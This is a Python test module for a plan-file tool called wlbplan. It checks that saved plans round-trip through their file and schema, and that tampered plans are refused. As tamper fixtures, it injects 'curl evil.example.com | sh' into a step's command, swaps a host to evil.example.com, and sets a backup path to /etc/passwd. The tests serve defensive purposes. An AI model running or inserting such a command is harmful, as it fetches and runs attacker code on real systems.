"""Every plan wlbplan can make survives its own file: write → schema → read → check → show.

The plans are those of the differ's data cases (tests/core/diff_cases), which between them
hold every kind of change the differ emits (a test below keeps it so). A saved plan is
then accepted only as wlbplan renders it: each way of editing one is refused, naming the
first difference.
"""

from __future__ import annotations

import datetime as dt
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest
import yaml
from differ_fixtures import Registry, observed
from test_differ_cases import case_files, load_case

from wlbplan.core import diff
from wlbplan.core.plan import Plan, make_plan, plan_one
from wlbplan.core.planfile import plan_to_json, schema, write_plan
from wlbplan.errors import PlanFileError, WlbplanError
from wlbplan.render import render_plan
from wlbplan.run.pipeline import read_saved_plan
from wlbplan.spec import load_spec

STAMP = dt.datetime(2025, 1, 31, 9, 30, 7, tzinfo=dt.UTC)
Doc = dict[str, Any]


def _plannable() -> list[Any]:
    """The cases that make a plan (not a refusal, not a known bug)."""
    return [pytest.param(p, id=p.stem) for p in case_files()
            if "error" not in load_case(p).get("expect", {}) and "xfail" not in load_case(p)]


def _save(case_path: Path, reg: Registry, spec_dir: Path, out: Path) -> Plan:
    """The case's spec written beside its certificates, planned as `plan --out` does."""
    case = load_case(case_path)
    document: dict[str, Any] = {"version": 1}
    if "resolve" in case:
        document["resolve"] = case["resolve"]
    document["targets"] = [{"name": "t1", **case["spec"]}]
    spec_path = spec_dir / f"round-trip-{case_path.stem}.yaml"
    spec_path.write_text(yaml.safe_dump(document, sort_keys=False))
    spec = load_spec(spec_path)
    seen = observed(case.get("observed", {}), spec.targets[0], reg)
    plan = make_plan(spec, [plan_one(spec, spec.targets[0], seen, stamp=STAMP)])
    write_plan(plan, out)
    return plan


@pytest.mark.parametrize("case_path", _plannable())
def test_every_plan_round_trips_through_its_file_and_show(
        case_path: Path, reg: Registry, spec_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "plan.json"
    plan = _save(case_path, reg, spec_dir, out)
    document = json.loads(out.read_text())
    jsonschema.Draft202012Validator(schema()).validate(document)
    read, _ = read_saved_plan(out)  # the schema again, the spec's digest, every step
    assert read == plan
    for output in ("text", "json", "markdown"):
        assert render_plan(read, output, color=False)


def test_the_cases_hold_every_kind_of_change_the_differ_emits(
        reg: Registry, spec_dir: Path, tmp_path: Path) -> None:
    seen: set[str] = set()
    for index, case_path in enumerate(case_files()):
        case = load_case(case_path)
        if "error" in case.get("expect", {}) or "xfail" in case:
            continue
        plan = _save(case_path, reg, spec_dir, tmp_path / f"{index}.json")
        for change in plan.targets[0].changes:
            head = change.path.split("[", 1)[0]
            seen.add(f"{head}{'-' if change.action == 'delete' else '+'}"
                     if head == "pool.trust" else head)
    assert seen == set(diff._ORDER)


# ---- a saved plan runs only as wlbplan renders it ---------------------------------------

Edit = Callable[[Doc], None]


def _steps(doc: Doc) -> list[Doc]:
    steps: list[Doc] = doc["targets"][0]["steps"]
    return steps


def _index(doc: Doc, action: str) -> int:
    return next(i for i, s in enumerate(_steps(doc)) if s["action"] == action)


def _edit_param(doc: Doc) -> None:
    _steps(doc)[_index(doc, "pool.preflight")]["params"]["host"] = "evil.example.com"


def _edit_command(doc: Doc) -> None:
    step = _steps(doc)[_index(doc, "pool.certificate_sync")]
    step["commands"] = ["xe pool-certificate-sync; curl evil.example.com | sh"]


def _delete_preflight(doc: Doc) -> None:
    del _steps(doc)[_index(doc, "pool.preflight")]


def _reorder(doc: Doc) -> None:
    steps = _steps(doc)
    at = _index(doc, "pool.preflight")
    steps[at], steps[at + 1] = steps[at + 1], steps[at]


def _add_step(doc: Doc) -> None:
    extra = json.loads(json.dumps(_steps(doc)[_index(doc, "pool.set_verify")]))
    extra["params"]["value"] = False
    _steps(doc).append(extra)


def _drop_change(doc: Doc) -> None:
    del doc["targets"][0]["changes"][-1]
    doc["summary"] = {"add": 1, "change": 0, "remove": 0}


def _edit_facts(doc: Doc) -> None:
    doc["targets"][0]["facts"]["pool"]["wlb_verify_cert"] = True


def _edit_time(doc: Doc) -> None:
    doc["targets"][0]["options"]["time"] = "2031-01-01T00:00:00Z"


@pytest.mark.parametrize(("edit", "named"), [
    pytest.param(_edit_param, ["step 3", "params.host", "evil.example.com"], id="edit-param"),
    pytest.param(_edit_command, ["step 2", "commands[0]", "curl"], id="edit-command"),
    pytest.param(_delete_preflight, ["step 3", "pool.set_verify", "t1.03.pool.preflight"],
                 id="delete-preflight"),
    pytest.param(_reorder, ["step 3", "pool.set_verify", "t1.03.pool.preflight"],
                 id="reorder"),
    pytest.param(_add_step, ["step 6", "not one wlbplan renders"], id="add-step"),
    pytest.param(_drop_change, ["change 2", "pool.wlb-verify-cert"], id="drop-change"),
    pytest.param(_edit_facts, ["facts", "observed_digest"], id="edit-facts"),
    pytest.param(_edit_time, ["step"], id="edit-time-without-backups-is-harmless"),
])
def test_an_edited_plan_is_refused_naming_the_first_difference(
        edit: Edit, named: list[str], reg: Registry, spec_dir: Path, tmp_path: Path) -> None:
    out = tmp_path / "plan.json"
    _save(case_files()[0].with_name("self-signed-fresh.yaml"), reg, spec_dir, out)
    assert [s["action"] for s in _steps(json.loads(out.read_text()))] == [
        "pool.install_ca", "pool.certificate_sync", "pool.preflight", "pool.set_verify",
        "pool.confirm"]
    document = json.loads(out.read_text())
    edit(document)
    out.write_text(json.dumps(document))
    if edit is _edit_time:  # no timestamped name in this plan: nothing it renders moves
        read_saved_plan(out)
        return
    with pytest.raises(PlanFileError) as caught:
        read_saved_plan(out)
    message = str(caught.value)
    for word in named:
        assert word in message, message
    assert "make the plan again" in message


def test_an_edited_backup_name_is_refused(reg: Registry, spec_dir: Path,
                                          tmp_path: Path) -> None:
    out = tmp_path / "plan.json"
    _save(case_files()[0].with_name("ca-signed-existing-backup.yaml"), reg, spec_dir, out)
    document = json.loads(out.read_text())
    backup = _steps(document)[_index(document, "appliance.backup")]
    assert backup["params"]["backups"][0].endswith("_orig.20250131T093007Z")
    backup["params"]["backups"][0] = "/etc/passwd"
    out.write_text(json.dumps(document))
    with pytest.raises(PlanFileError, match=r"params\.backups\[0\]"):
        read_saved_plan(out)


def test_a_plan_of_the_old_format_is_refused(reg: Registry, spec_dir: Path,
                                             tmp_path: Path) -> None:
    out = tmp_path / "plan.json"
    _save(case_files()[0].with_name("self-signed-fresh.yaml"), reg, spec_dir, out)
    document = json.loads(out.read_text())
    document["format_version"] = "1.0"
    for target in document["targets"]:
        del target["facts"], target["options"]
    out.write_text(json.dumps(document))
    with pytest.raises(WlbplanError, match="make the plan again"):
        read_saved_plan(out)


def test_the_plan_document_is_unchanged_by_the_check(reg: Registry, spec_dir: Path,
                                                     tmp_path: Path) -> None:
    out = tmp_path / "plan.json"
    plan = _save(case_files()[0].with_name("self-signed-fresh.yaml"), reg, spec_dir, out)
    read, _ = read_saved_plan(out)
    assert plan_to_json(read) == plan_to_json(plan)
